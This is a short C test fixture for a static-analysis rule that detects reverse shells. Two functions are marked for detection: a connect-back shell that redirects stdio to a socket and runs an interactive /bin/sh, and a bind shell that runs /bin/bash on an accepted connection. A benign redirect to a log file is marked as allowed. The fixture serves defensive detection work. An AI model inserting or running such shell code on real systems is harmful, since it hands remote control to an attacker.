/* Fixture for c-reverse-shell.
 * RULEID: connect-back shell with dup2 + execl("/bin/sh"); bind shell via accept.
 * OK: dup2 of a log file then exec of a configured helper. */
#include <sys/socket.h>
#include <unistd.h>
#include <fcntl.h>

void beacon(struct sockaddr *sa, int len) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    connect(s, sa, len);
    dup2(s, 0);
    dup2(s, 1);
    dup2(s, 2);
    // ruleid: c-reverse-shell
    execl("/bin/sh", "sh", "-i", (char *)0);
}

void bindshell(int l) {
    int c = accept(l, 0, 0);
    dup2(c, 0);
    dup2(c, 1);
    // ruleid: c-reverse-shell
    execve("/bin/bash", 0, 0);
}

void helper(const char *path) {
    int fd = open("/var/log/helper.log", O_WRONLY);
    dup2(fd, 2);
    // ok: c-reverse-shell
    execl(path, "helper", (char *)0);
}
